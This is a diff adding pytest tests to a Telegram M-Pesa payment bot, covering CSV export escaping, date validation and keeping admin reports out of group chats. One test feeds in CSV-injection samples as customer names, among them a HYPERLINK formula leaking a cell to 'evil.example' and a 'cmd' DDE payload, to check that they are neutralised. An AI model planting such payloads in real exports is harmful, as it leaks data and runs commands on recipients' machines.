@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import logging
 
 import pytest
 from telegram.ext import CallbackContext
@@ -164,7 +165,7 @@ async def test_per_phone_limit_whoever_asks(merchant_shop: Shop) -> None:
     assert "before 20:00" in told
     shop.clock.advance(3600)
     await shop.send(fourth.text("0712345672"))
-    assert "2547****672 (M-Pesa)" in shop.last(ADMIN).text or "254712345672 (M-Pesa)" in shop.last(ADMIN).text
+    assert shop.last(ADMIN).text.startswith("Phone: 254712345672 (M-Pesa).\nHow much?")  # the limit has passed
 
 
 # -- what the merchant sees ------------------------------------------------------------------
@@ -236,6 +237,45 @@ async def test_export_is_a_csv_checked_row_by_row(merchant_shop: Shop) -> None:
     assert shop.last(ADMIN).text.startswith("Send dates as YYYY-MM-DD")
 
 
+@pytest.mark.parametrize("dates", ["0001-01-01 9999-12-31", "9999-12-31", "2025-11-24 9999-12-31"])
+async def test_export_with_dates_out_of_range_gets_the_usual_message(
+    merchant_shop: Shop, caplog: pytest.LogCaptureFixture, dates: str
+) -> None:
+    shop = merchant_shop
+    await shop.send(shop.customer(ADMIN).text(f"/export {dates}"))
+    assert shop.last(ADMIN).text.startswith("Send dates as YYYY-MM-DD")
+    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]
+
+
+async def test_export_neutralises_what_a_spreadsheet_would_run(
+    merchant_shop: Shop, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Telegram names and iPay payer names are anyone's text: a cell a spreadsheet would read
+    as a formula gets a leading apostrophe (OWASP's CSV injection rule); plain numbers stay numbers."""
+    shop = merchant_shop
+    people = [  # (user id, Telegram first name, payer name at iPay)
+        (CUSTOMER, '=HYPERLINK("http://evil.example/?leak="&A1,"Receipt")', "@SUM(1+1)"),
+        (OTHER, "+254 call me", "-2+3*cmd|' /C calc'!A0"),
+        (503, "\tTabbed", "-500"),
+        (504, "\rReturned", "Jane Doe"),
+    ]
+    for n, (user_id, first_name, payer) in enumerate(people):
+        monkeypatch.setattr("bot.sandbox.ipay.PAYER_NAMES", ((payer, ""),))
+        await shop.pay(shop.customer(user_id, first_name), phone=f"071234567{7 + n % 3}")
+        shop.clock.advance(5)
+        await shop.sweep()
+    await shop.send(shop.customer(ADMIN).text("/export 2025-11-24"))
+    rows = list(csv.reader(io.StringIO(shop.last(ADMIN).document["content"].decode("utf-8"))))[1:]
+    assert [row[2] for row in rows] == ["paid"] * 4
+    assert [row[11] for row in rows] == [
+        f"'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Receipt\") ({CUSTOMER})",
+        f"'+254 call me ({OTHER})",
+        "'\tTabbed (503)",
+        "'\rReturned (504)",
+    ]
+    assert [row[8] for row in rows] == ["'@SUM(1+1)", "'-2+3*cmd|' /C calc'!A0", "-500", "Jane Doe"]
+
+
 async def test_daily_summary_goes_to_the_merchant_and_skips_empty_days(merchant_shop: Shop) -> None:
     shop = merchant_shop
     job = shop.app.job_queue.get_jobs_by_name("daily-summary")[0]
@@ -251,3 +291,66 @@ async def test_daily_summary_goes_to_the_merchant_and_skips_empty_days(merchant_
     assert summary.startswith("📊 Today at Mama Mboga (24 Nov 2025):")
     assert summary.endswith("Received in all: KES 500 from 1 of 1 orders.")
     assert (await shop.order((await shop.only_order(CUSTOMER)).id)).status is OrderStatus.PAID
+
+
+# -- admin reports asked in a group ----------------------------------------------------------
+
+GROUP = -100555
+
+
+def _group_texts(shop: Shop) -> str:
+    return "\n".join(m.text for m in shop.telegram.bot_messages(GROUP))
+
+
+async def test_admin_reports_asked_in_a_group_go_to_the_admins_private_chat(merchant_shop: Shop) -> None:
+    shop = merchant_shop
+    private = await _paid(shop, CUSTOMER, "0712345678")
+    in_group = await _paid(shop, OTHER, "0733345679", chat_id=GROUP)
+    admin_in_group = shop.customer(ADMIN, "Boss", chat_id=GROUP)
+    for command in ("/orders", "/orders@pesabot today", "/summary week", "/export 2025-11-24"):
+        await shop.send(admin_in_group.text(command))
+        assert shop.last(GROUP).text == (
+            "I've sent that to you in our private chat: reports on every chat's orders stay out of groups."
+        )
+    orders, orders_today, summary, export = shop.telegram.bot_messages(ADMIN)
+    assert orders.text.startswith("Orders (latest 10, every chat):")
+    assert private in orders.text and in_group in orders.text
+    assert orders_today.text.startswith("Orders (today, every chat):")
+    assert summary.text.startswith("Summary (week):")
+    assert export.document is not None and private in export.document["content"].decode()
+    paid = await shop.order(private)
+    group_sees = _group_texts(shop)
+    for secret in (private, paid.receipt_code, paid.payer_name, paid.masked_phone, str(CUSTOMER), "Received in all"):
+        assert secret and secret not in group_sees
+    assert not [p for m, p in shop.telegram.calls if m == "sendDocument" and str(p["chat_id"]) == str(GROUP)]
+
+    member = shop.customer(OTHER, chat_id=GROUP)  # a non-admin's /orders in a group: that group's orders, there
+    await shop.send(member.text("/orders"))
+    assert shop.last(GROUP).text.startswith("Orders (latest 10, this chat):")
+    assert in_group in shop.last(GROUP).text and private not in shop.last(GROUP).text
+
+
+async def test_summary_in_the_merchant_chat_is_answered_there(merchant_shop: Shop) -> None:
+    """The merchant chat gets these very totals every evening: no reason to send them elsewhere."""
+    shop = merchant_shop
+    await _paid(shop, CUSTOMER, "0712345678")
+    await shop.send(shop.customer(ADMIN, chat_id=MERCHANT_CHAT).text("/summary"))
+    assert shop.last(MERCHANT_CHAT).text.startswith("Summary (today):\n✅ paid · M-Pesa: 1 for KES 500 asked")
+    assert shop.telegram.bot_messages(ADMIN) == []
+
+
+@pytest.mark.parametrize(("command", "method"), [("/orders", "sendMessage"), ("/export", "sendDocument"),
+                                                 ("/summary", "sendMessage")])
+async def test_an_admin_without_a_private_chat_is_told_in_one_line_and_the_group_sees_nothing(
+    merchant_shop: Shop, caplog: pytest.LogCaptureFixture, command: str, method: str
+) -> None:
+    shop = merchant_shop
+    private = await _paid(shop, CUSTOMER, "0712345678")
+    shop.telegram.fail_next(method, 403, "Forbidden: bot can't initiate conversation with a user", chat_id=ADMIN)
+    await shop.send(shop.customer(ADMIN, chat_id=GROUP).text(command))
+    assert shop.texts(GROUP) == [
+        "Reports on every chat's orders stay out of groups: open a private chat with @pesabot, send /start, "
+        "then ask again."
+    ]
+    assert private not in _group_texts(shop) and shop.telegram.bot_messages(ADMIN) == []
+    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]
